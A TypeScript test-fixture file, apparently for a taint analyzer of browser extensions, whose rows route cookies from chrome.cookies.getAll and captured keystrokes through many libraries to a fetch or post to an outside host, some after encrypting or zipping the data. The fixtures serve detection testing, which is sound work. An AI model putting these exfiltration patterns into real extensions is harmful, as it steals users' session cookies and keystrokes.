import { flow, post } from '../case.ts';
import type { Row } from '../pairs.ts';

type Rows = Readonly<Record<string, Row>>;

const host = 'https://in.gather.dev';
const stolen = '«c¦5»';
const other = '«5¦c»';
const both = '{ x: «c¦5», y: «5¦c» }';

/** A module that does it with the cookies. */
function keeps(head: string, code: string): Row {
  return { worker: `${head} chrome.cookies.getAll({}, (c) => { ${code} });`, isModule: true };
}

function plain(code: string): Row {
  return { worker: code };
}

const utilities: Rows = {
  'pipe of remeda': keeps(
    `import { pipe } from 'remeda';`,
    `pipe(${both}, (t) => t.x, (v) => { ${post('v')} })`,
  ),
  '_.get': keeps(`import _ from 'lodash';`, post(`_.get(${both}, 'x')`)),
  '_.get of a path': keeps(
    `import _ from 'lodash';`,
    `const t = { a: ${both} }; ${post(`_.get(t, 'a.x', 0)`)}`,
  ),
  'get of a list of keys': keeps(
    `import get from 'lodash/get';`,
    `const t = { a: ${both} }; ${post(`get(t, ['a', 'x'])`)}`,
  ),
  'prop of ramda': keeps(`import { prop } from 'ramda';`, post(`prop('x', ${both})`)),
  'path of ramda': keeps(`import { path } from 'ramda';`, post(`path(['a', 'x'], { a: ${both} })`)),
  '_.cloneDeep': keeps(`import { cloneDeep } from 'lodash-es';`, post(`cloneDeep(${both}).x`)),
  '_.delay': keeps(
    `import _ from 'lodash'; const save = (x, y) => { ${post('x')} };`,
    `_.delay(save, 50, ${stolen}, ${other})`,
  ),
  '_.forOwn': keeps(
    `import _ from 'lodash';`,
    `_.forOwn({ a: ${both} }, (e, key) => { ${post('e.x')} })`,
  ),
  '_.tap': keeps(`import _ from 'lodash';`, `_.tap(${both}, (t) => { ${post('t.x')} })`),
  '_.debounce': keeps(
    `import _ from 'lodash'; const save = _.debounce((x, y) => { ${post('x')} }, 50);`,
    `save(${stolen}, ${other})`,
  ),
  '_.partial': keeps(
    `import _ from 'lodash'; const save = (a, x, y) => { ${post('x')} };`,
    `const f = _.partial(save, 5, ${stolen}); f(${other})`,
  ),
  '_.curry': keeps(
    `import _ from 'lodash'; const save = _.curry((x, y) => { ${post('x')} });`,
    `save(${stolen})(${other})`,
  ),
  '_.memoize': keeps(
    `import _ from 'lodash'; const make = _.memoize((x) => ({ a: x }));`,
    `${post(`make(${stolen}).a`)}; void ${other}`,
  ),
};

const emitters: Rows = {
  mitt: keeps(
    `import mitt from 'mitt'; const bus = mitt(); bus.on('save', (x) => { ${post('x')} }); bus.on('note', () => {});`,
    `bus.emit('save', ${stolen}); bus.emit('note', ${other})`,
  ),
  'nanoevents in a class': keeps(
    `import { createNanoEvents } from 'nanoevents'; class T { constructor() { this.emitter = createNanoEvents() } on(e, f) { return this.emitter.on(e, f) } put(x, y) { this.emitter.emit('save', x, y) } } const t = new T(); t.on('save', (x, y) => { ${post('x')} });`,
    `t.put(${stolen}, ${other})`,
  ),
  'eventemitter3 extended': keeps(
    `import { EventEmitter } from 'eventemitter3'; class T extends EventEmitter { put(x, y) { this.emit('save', x, y) } } const t = new T(); t.once('save', (x, y) => { ${post('x')} });`,
    `t.put(${stolen}, ${other})`,
  ),
  'eventemitter3 context': keeps(
    `import EventEmitter from 'eventemitter3'; const bus = new EventEmitter(); const t = { a: 0, save() { ${post('this.a')} } };`,
    `t.a = ${stolen}; t.b = ${other}; bus.on('save', t.save, t); bus.emit('save')`,
  ),
  emittery: keeps(
    `import Emittery from 'emittery'; const bus = new Emittery(); bus.on('save', (x) => { ${post('x')} }); bus.on('note', () => {});`,
    `bus.emit('save', ${stolen}); bus.emit('note', ${other})`,
  ),
};

const queues: Rows = {
  'p-limit with arguments': keeps(
    `import pLimit from 'p-limit'; const limit = pLimit(1); const save = async (x, y) => ${post('x')};`,
    `limit(save, ${stolen}, ${other})`,
  ),
  'p-map': keeps(
    `import pMap from 'p-map';`,
    `pMap([${both}], async (e) => { ${post('e.x')} }, { concurrency: 2 })`,
  ),
  'p-retry': keeps(
    `import pRetry from 'p-retry';`,
    `pRetry(() => ${stolen}).then((x) => ${post('x')}); pRetry(() => ${other})`,
  ),
  'async.queue': keeps(
    `import async from 'async'; const q = async.queue((task, done) => { ${post('task.x')}; done() }, 2);`,
    `q.push(${both})`,
  ),
  'async.queue of a script element': plain(
    `const q = async.queue(function (task, done) { ${post('task.x')}; done() }, 2); chrome.cookies.getAll({}, (c) => { q.push(${both}) });`,
  ),
  'a queue in a member': keeps(
    `import { queue } from 'async'; class Sender { constructor() { this.jobs = queue((job, done) => { ${post('job.x')}; done() }) } put(job) { this.jobs.push(job) } } const sender = new Sender();`,
    `sender.put(${both})`,
  ),
  'async.each': keeps(
    `import async from 'async';`,
    `async.each([${both}], (e, done) => { ${post('e.x')}; done() }, () => {})`,
  ),
  'runExclusive of a mutex': keeps(
    `import { Mutex } from 'async-mutex'; const m = new Mutex();`,
    `m.runExclusive(() => ${stolen}).then((x) => ${post('x')}); m.runExclusive(() => ${other})`,
  ),
};

const states: Rows = {
  'a recipe of Immer that returns': keeps(
    `import { produce } from 'immer';`,
    `const t = produce({ a: 1 }, (d) => ({ x: ${stolen}, y: ${other} })); ${post('t.x')}`,
  ),
  'takeEvery of a saga': keeps(
    `import { takeEvery, put } from 'redux-saga/effects'; import { createStore } from 'redux'; function* save(action) { ${post('action.x')} } function* root() { yield takeEvery('save', save) } const store = createStore((t) => t);`,
    `store.dispatch({ type: 'save', ...${both} })`,
  ),
  'call of a saga': keeps(
    `import { call } from 'redux-saga/effects'; const save = (x, y) => ${post('x')};`,
    `function* run() { yield call(save, ${stolen}, ${other}) } run().next()`,
  ),
  'what call of a saga gives': keeps(
    `import { call } from 'redux-saga/effects';`,
    `const get = async () => (${both}); function* run() { const t = yield call(get); ${post('t.x')} } run().next()`,
  ),
  'put of a saga': keeps(
    `import { put, takeLatest } from 'redux-saga/effects'; function* save({ x }) { ${post('x')} } function* root() { yield takeLatest('save', save) }`,
    `function* run() { yield put({ type: 'save', ...${both} }) } run().next()`,
  ),
  'a hook of Zustand': keeps(
    `import { create } from 'zustand'; const useJar = create(() => ({ x: 0, y: 0 })); function View() { const x = useJar((jar) => jar.x); ${post('x')} }`,
    `useJar.setState(${both}); View()`,
  ),
  'a hook of Zustand in a bundle': plain(
    `var r = n(5); const useJar = (0, r.create)(() => ({ x: 0, y: 0 })); chrome.cookies.getAll({}, (c) => { useJar.setState(${both}); const { x } = useJar(); ${post('x')} });`,
  ),
  'fromEvent of RxJS': {
    content: {
      'content.js': `const { fromEvent, map } = rxjs; fromEvent(document, '«keydown¦scroll»').pipe(map((e) => e.key)).subscribe((key) => { ${post('key')} });`,
    },
    fact: flow('key-input'),
  },
  'an event of Effector': keeps(
    `import { createEvent, createStore } from 'effector'; const saved = createEvent(), noted = createEvent(); saved.watch((x) => { ${post('x')} }); noted.watch(() => {});`,
    `saved(${stolen}); noted(${other})`,
  ),
  'merge of RxJS': keeps(
    `import { Subject, merge } from 'rxjs'; const a = new Subject(), b = new Subject(), z = new Subject(); merge(a, z).subscribe((x) => { ${post('x')} });`,
    `a.next(${stolen}); b.next(${other})`,
  ),
  'tap of RxJS': keeps(
    `import { Subject, tap } from 'rxjs'; const a = new Subject(), b = new Subject(); a.pipe(tap((x) => { ${post('x')} })).subscribe(); b.subscribe();`,
    `a.next(${stolen}); b.next(${other})`,
  ),
  'shareReplay of RxJS': keeps(
    `import { Subject, share, shareReplay } from 'rxjs'; const a = new Subject(), b = new Subject(); const hot = a.pipe(shareReplay(1)); hot.subscribe((x) => { ${post('x')} });`,
    `a.next(${stolen}); b.next(${other})`,
  ),
};

const codecs: Rows = {
  'superjson there and back': keeps(
    `import superjson from 'superjson';`,
    post(`superjson.parse(superjson.stringify(${both})).x`),
  ),
  'pako deflate class': keeps(
    `import { Deflate } from 'pako';`,
    `const d = new Deflate(); d.push(JSON.stringify(${stolen}), true); fetch('${host}/a', { method: 'POST', body: d.result }); void ${other}`,
  ),
  'crypto-js encryptor': keeps(
    `import CryptoJS from 'crypto-js';`,
    `const e = CryptoJS.algo.AES.createEncryptor('k'); const p = e.process(JSON.stringify(${stolen})); const z = e.finalize(); fetch('${host}/a', { method: 'POST', body: p.concat(z).toString() }); void ${other}`,
  ),
  'jose encrypt': keeps(
    `import { CompactEncrypt } from 'jose';`,
    `(async () => { const t = await new CompactEncrypt(new TextEncoder().encode(JSON.stringify(${stolen}))).setProtectedHeader({ alg: 'dir' }).encrypt(k); fetch('${host}/a', { method: 'POST', body: t }); void ${other} })()`,
  ),
  'jose EncryptJWT': keeps(
    `import * as jose from 'jose';`,
    `new jose.EncryptJWT({ c: ${stolen} }).setProtectedHeader({ alg: 'dir' }).setIssuedAt().encrypt(k).then((t) => fetch('${host}/a?t=' + t)); void ${other}`,
  ),
  'node-forge': keeps(
    `import forge from 'node-forge';`,
    `const z = forge.cipher.createCipher('AES-CBC', 'k'); z.start({ iv: 1 }); z.update(forge.util.createBuffer(JSON.stringify(${stolen}))); z.finish(); fetch('${host}/a', { method: 'POST', body: z.output.toHex() }); void ${other}`,
  ),
  JSZip: keeps(
    `import JSZip from 'jszip';`,
    `const z = new JSZip(); z.file('a', JSON.stringify(${stolen})); z.generateAsync({ type: 'blob' }).then((body) => fetch('${host}/a', { method: 'POST', body })); void ${other}`,
  ),
  protobuf: keeps(
    `import { Jar } from './jar.js';`,
    `fetch('${host}/a', { method: 'POST', body: Jar.encode(Jar.create({ c: ${stolen} })).finish() }); void ${other}`,
  ),
};

const browsers: Rows = {
  'a part of the polyfill': {
    worker: `import { cookies } from 'webextension-polyfill'; cookies.getAll({}).then((c) => { ${post(stolen)}; void ${other} });`,
    isModule: true,
  },
  'the polyfill in a bundle': plain(
    `var r = n(5), q = n.n(r); q().cookies.getAll({}).then((c) => { ${post(stolen)}; void ${other} });`,
  ),
  'all of the polyfill': {
    worker: `import * as browser from 'webextension-polyfill'; browser.cookies.getAll({}).then((c) => { ${post(stolen)}; void ${other} });`,
    isModule: true,
  },
  '@plasmohq/storage': keeps(
    `import { Storage } from '@plasmohq/storage'; const storage = new Storage(); (async () => { ${post("await storage.get('x')")} })();`,
    `storage.set('x', ${stolen}); storage.set('y', ${other})`,
  ),
};

/** Functions, queues, states, events and codecs of libraries that are in many bundles. */
export const utilityRows: Readonly<Record<string, Rows>> = {
  utilities,
  'queues of libraries': queues,
  'states of libraries': states,
  emitters,
  codecs,
  polyfills: browsers,
};
